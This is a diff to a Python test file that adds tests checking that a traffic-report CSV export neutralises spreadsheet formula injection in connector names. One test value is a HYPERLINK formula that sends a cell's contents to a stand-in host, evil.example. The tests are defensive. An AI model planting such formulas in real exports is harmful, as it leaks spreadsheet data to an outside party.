@@ -2,13 +2,16 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, datetime, timedelta
 from typing import Any
 
 import httpx
 import pytest
 
-from tests.factories import add_connector, garbage_left_by, ingest, rec
+from api.rest.traffic_reports import spreadsheet_safe
+from tests.factories import add_connector, garbage_left_by, ingest, message, rec
 
 
 def versions(body: dict[str, Any]) -> dict[str, int]:
@@ -186,6 +189,23 @@ async def test_connector_report_csv(client: httpx.AsyncClient, traffic: dict[str
     assert ",true,50.0,0.0,0.0,50.0,0.0,0.0,2,1,0,0,1,0,0" in lines[2]
     accept = await client.get("/api/v1/connector-report", params=window, headers={"accept": "text/csv"})
     assert accept.text == response.text
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+1", "-1+1", "@SUM(A1)"])
+async def test_connector_report_csv_keeps_a_formula_a_text(client: httpx.AsyncClient, name: str) -> None:
+    await add_connector(client, name, "outbound")
+    await ingest(client, [message(1, direction="outbound", connector=name)])
+    window = {"from": "2026-11-19T00:00:00Z", "to": "2026-11-21T00:00:00Z", "direction": "outbound"}
+    response = await client.get("/api/v1/connector-report", params={**window, "format": "csv"})
+    rows = list(csv.reader(io.StringIO(response.text)))
+    assert [row[2] for row in rows[1:]] == ["'" + name]  # a spreadsheet shows it, runs nothing
+
+
+@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@A1", "\tx", "\rx"])
+def test_every_formula_start_is_guarded(text: str) -> None:
+    assert spreadsheet_safe(text) == "'" + text
+    assert spreadsheet_safe("Fabrikam " + text) == "Fabrikam " + text  # only at the start
+    assert spreadsheet_safe(-1) == -1  # numbers stay numbers
 
 
 @pytest.mark.parametrize(
